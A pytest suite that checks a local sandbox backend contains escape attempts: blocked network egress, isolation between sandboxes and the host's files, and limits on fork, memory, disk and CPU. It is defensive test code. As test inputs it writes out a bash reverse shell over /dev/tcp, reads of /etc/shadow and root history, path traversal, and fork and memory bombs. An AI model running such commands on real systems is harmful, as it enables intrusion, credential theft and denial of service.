"""Escape suite on the local backend: each attempt fails inside the sandbox, the host and the
other sandboxes stay fine. No test sends a packet anywhere real: outside targets are TEST-NET
addresses (192.0.2.0/24), and the sandbox's network namespace has no route to them anyway."""

from __future__ import annotations

import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest
from ale_rock.backends.base import Limits
from ale_rock.backends.local import LocalBackend

PY = "python3" if Path("/usr/bin/python3").exists() else "/usr/bin/env python3"


@pytest.fixture
def host_listener():
    """A TCP server on the host's loopback that records every connection it gets."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    srv.settimeout(0.2)
    accepted: list[tuple[str, int]] = []
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, addr = srv.accept()
            except OSError:
                continue
            accepted.append(addr)
            conn.close()

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    yield srv.getsockname()[1], accepted
    stop.set()
    t.join(2)
    srv.close()


def _connect_script(host: str, port: int) -> str:
    return (
        f'{PY} -c "import socket,sys\n'
        f"try:\n socket.create_connection(('{host}', {port}), timeout=3); print('CONNECTED')\n"
        f"except OSError as e: print('FAILED', e.errno, e)\""
    )


def test_egress_to_outside_address_fails_without_sending(make_box) -> None:
    box = make_box()
    r = box.sh(_connect_script("192.0.2.1", 80) + "; ip route 2>/dev/null; cat /proc/net/route")
    out = r.stdout.decode()
    assert "FAILED" in out and "CONNECTED" not in out
    assert "unreachable" in out.lower()  # no route at all: nothing leaves the namespace
    # Only loopback exists inside.
    assert box.sh("ls /sys/class/net 2>/dev/null || cat /proc/net/dev").stdout.decode().count("eth") == 0


def test_host_loopback_and_reverse_shell_fail(make_box, host_listener) -> None:
    port, accepted = host_listener
    box = make_box()
    r = box.sh(_connect_script("127.0.0.1", port))
    assert b"FAILED" in r.stdout
    r = box.sh(f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'; echo rc=$?", timeout_ms=10000)
    assert b"rc=1" in r.stdout
    r = box.sh("bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444' 2>&1; echo rc=$?", timeout_ms=10000)
    assert b"rc=1" in r.stdout
    time.sleep(0.3)
    assert accepted == []


def test_cannot_reach_another_sandbox(make_box) -> None:
    a, b = make_box(), make_box()
    b.sh(f"{PY} -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1", background=True)
    deadline = time.monotonic() + 20
    while b"CONNECTED" not in b.sh(_connect_script("127.0.0.1", 8765)).stdout:
        assert time.monotonic() < deadline, "the listener in sandbox b never came up"
        time.sleep(0.2)
    assert b"FAILED" in a.sh(_connect_script("127.0.0.1", 8765)).stdout


def test_host_and_other_sandbox_files_are_invisible(backend: LocalBackend, make_box, tmp_path: Path) -> None:
    a, b = make_box(), make_box()
    b.sh("echo secret-of-b > /workspace/secret.txt")
    b_root = backend.handle(b.id).host_dir
    secret = tmp_path / "host-secret.txt"
    secret.write_text("host secret")
    targets = [
        str(secret),
        str(b_root / "fs" / "work" / "secret.txt"),
        str(Path(__file__).resolve().parents[4] / "README.md"),  # this checkout (the venv in it is bound)
        "/root/.bash_history",
        "/etc/shadow",
        "/home/sandbox/../../root/.profile",
    ]
    for target in targets:
        r = a.sh(f"cat {target!s}")
        assert r.exit_code != 0, target
        assert b"secret" not in r.stdout
    # Only the sandbox's own processes are visible.
    pids = a.sh("ls /proc | grep -E '^[0-9]+$'").stdout.split()
    assert len(pids) < 20
    assert str(subprocess.os.getpid()).encode() not in pids  # type: ignore[attr-defined]
    assert b"secret-of-b" not in a.sh("cat /workspace/secret.txt /tmp/* 2>&1").stdout


def test_writes_outside_the_sandbox_fail(backend: LocalBackend, make_box) -> None:
    box = make_box()
    for target in (
        "/usr/evil",
        "/etc/evil",
        "/usr/bin/evil",
        "/run/ale/../../usr/evil",
        "/run/ale-conf/settings.json",
    ):
        assert box.sh(f"echo x > {target}").exit_code != 0, target
        assert not Path(target).exists()
    venv = Path(backend.config.python).parent
    assert box.sh(f"touch {venv}/evil").exit_code != 0
    assert not (venv / "evil").exists()


def test_fork_bomb_is_contained(backend: LocalBackend, make_box) -> None:
    victim = make_box()
    bomb = make_box(limits=Limits(max_pids=64))
    r = bomb.sh("bomb() { bomb | bomb & }; bomb; sleep 2", timeout_ms=3000)
    assert b"cannot fork" in r.stderr.lower()  # forks fail inside: the pids limit holds
    time.sleep(1)  # the bomb keeps churning in the background
    if backend.mode != "none":
        assert 0 < backend.usage(bomb.id).pids <= 64
    assert subprocess.run(["true"]).returncode == 0
    assert victim.sh("echo fine").stdout == b"fine\n"
    # Stopping a sandbox in the middle of a fork bomb reaps every process (freeze, kill, thaw).
    backend.stop(bomb.id, 0)
    assert not backend.is_running(bomb.id)
    if backend.mode != "none":
        assert backend._get(bomb.id).group.procs() == []
    assert victim.sh("echo still fine").stdout == b"still fine\n"


@pytest.mark.skipif(
    __import__("ale_rock.backends.limits", fromlist=["x"]).detect_mode() == "none", reason="needs cgroups"
)
def test_memory_bomb_is_contained(make_box) -> None:
    victim = make_box()
    box = make_box(limits=Limits(memory_bytes=128 * 2**20))
    r = box.sh(f'{PY} -c "a=[]\nwhile True: a.append(bytearray(8<<20))"', timeout_ms=60000)
    assert r.exit_code != 0  # MemoryError or the OOM killer, inside the sandbox
    assert box.sh("echo survived").stdout == b"survived\n"  # the Rocklet was not the victim
    assert victim.sh("echo fine").stdout == b"fine\n"


def test_disk_fill_is_bounded(backend: LocalBackend, make_box) -> None:
    box = make_box(limits=Limits(disk_bytes=32 * 2**20, memory_bytes=256 * 2**20))
    r = box.sh(
        "dd if=/dev/zero of=/workspace/fill bs=1M count=100 2>&1; dd if=/dev/zero of=/tmp/fill2 bs=1M count=100 2>&1; du -sm /workspace /tmp"
    )
    assert r.exit_code != 0 or b"No space" in r.stdout or b"too large" in r.stdout
    assert backend.usage(box.id).disk_bytes <= 33 * 2**20
    assert (
        box.sh("rm -f /workspace/fill /tmp/fill2; echo ok > /workspace/x && cat /workspace/x").stdout
        == b"ok\n"
    )


@pytest.mark.skipif(
    __import__("ale_rock.backends.limits", fromlist=["x"]).detect_mode() == "none", reason="needs cgroups"
)
def test_cpu_spin_is_throttled(backend: LocalBackend, make_box) -> None:
    box = make_box(limits=Limits(cpu_millis=200))
    before = backend.usage(box.id).cpu_seconds
    started = time.monotonic()
    r = box.sh("while :; do :; done", timeout_ms=2000)
    wall = time.monotonic() - started
    assert r.end_reason == 3  # TIMEOUT
    used = backend.usage(box.id).cpu_seconds - before
    if used:  # cpuacct available
        assert used < 0.6 * wall, (used, wall)
    assert backend._get(box.id).group.throttled() > 0
